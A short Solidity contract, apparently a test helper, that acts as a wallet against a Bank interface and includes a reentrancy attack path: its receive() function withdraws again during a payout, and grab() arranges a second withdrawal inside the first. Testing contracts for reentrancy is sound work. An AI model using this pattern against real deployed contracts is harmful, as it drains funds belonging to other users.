// SPDX-License-Identifier: MIT
pragma solidity ^0.8.0;

interface Bank {
    function ethdeposit(address to) external payable;
    function withdraw(uint256 amount) external;
}

/// A wallet that is a contract: honest until it gets an amount to withdraw during a payment.
contract Purse {
    Bank private immutable bank;
    uint256 private more;

    constructor(address target) {
        bank = Bank(target);
    }

    receive() external payable {
        uint256 amount = more;
        more = 0;
        if (amount > 0) bank.withdraw(amount);
    }

    function save() external payable {
        bank.ethdeposit{value: msg.value}(address(this));
    }

    function take(uint256 amount) external {
        bank.withdraw(amount);
    }

    /// Two withdrawals in one transaction.
    function takeTwice(uint256 first, uint256 second) external {
        bank.withdraw(first);
        bank.withdraw(second);
    }

    /// Withdraws an amount, and another one during the payment of the first.
    function grab(uint256 amount, uint256 another) external {
        more = another;
        bank.withdraw(amount);
    }
}
